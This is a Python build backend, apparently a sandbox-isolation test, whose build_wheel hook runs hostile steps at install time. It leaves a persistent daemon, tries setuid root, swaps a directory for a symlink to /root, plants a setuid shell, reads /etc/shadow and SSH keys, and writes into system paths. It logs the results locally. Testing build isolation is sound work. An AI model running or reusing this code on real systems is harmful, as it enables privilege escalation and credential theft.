"""A build backend that does what a package on an index could do, and writes down what came of it."""

import base64
import ctypes
import hashlib
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

# pip builds in the directory of the package, which is in the code.
REPORT = Path.cwd().parent / "web/report.json"
# Runs on when the build has ended, in a session of its own, and marks the release for as long as it can.
DAEMON = """
import sys, time
while True:
    with open(sys.argv[1], "a") as file:
        file.write("x")
    time.sleep(0.1)
"""


def steal(path: str) -> str:
    try:
        return Path(path).read_text()[:20] or "empty"
    except OSError as error:
        return error.strerror


def write(path: str) -> str:
    try:
        Path(path).write_text("#!/bin/sh\n")
    except OSError as error:
        return error.strerror
    return "written"


def keep_rights() -> str:
    shell = Path.cwd().parent / "web/setuid"
    shell.write_bytes(Path("/bin/sh").read_bytes())
    try:
        shell.chmod(0o6777)
    except OSError as error:
        return error.strerror
    return "kept"


def swap() -> str:
    """Put something else where root will look for what the build has left."""
    try:
        Path("/var/lib/private/gunicorn_flask-build-web/0").rename("/var/lib/private/gunicorn_flask-build-web/x")
        Path("/var/lib/private/gunicorn_flask-build-web/0").symlink_to("/root")
    except OSError as error:
        return error.strerror
    return "swapped"


def make_root() -> str:
    try:
        os.setuid(0)
    except OSError as error:
        return error.strerror
    return "root"


def attack() -> None:
    mark = Path.cwd().parent / "web/daemon"
    # pip waits for whoever holds its pipe.
    pipes = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen([sys.executable, "-c", DAEMON, str(mark)], start_new_session=True, **pipes)
    while not mark.exists():
        time.sleep(0.05)
    REPORT.write_text(
        json.dumps(
            {
                "uid": os.getuid(),
                "root": make_root(),
                "swap": swap(),
                "setuid": keep_rights(),
                "shadow": steal("/etc/shadow"),
                "environment": steal("/etc/gunicorn/web/environment"),
                "keys": steal("/home/ansible/.ssh/authorized_keys"),
                "program": write("/usr/local/bin/hostile"),
                "job": write("/etc/hostile"),
                "release": write("/srv/web/hostile"),
                "data": write("/var/lib/web/hostile"),
                "namespace": ctypes.CDLL(None, use_errno=True).unshare(0x10000000),
            }
        )
    )


def build_wheel(folder, config_settings=None, metadata_directory=None) -> str:
    attack()
    info = "hostile-1.dist-info"
    files = {
        "hostile.py": "",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: hostile\nVersion: 1\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(text)}")
    files[f"{info}/RECORD"] = "\n".join([*record, f"{info}/RECORD,,", ""])
    name = "hostile-1-py3-none-any.whl"
    with zipfile.ZipFile(Path(folder, name), "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
    return name
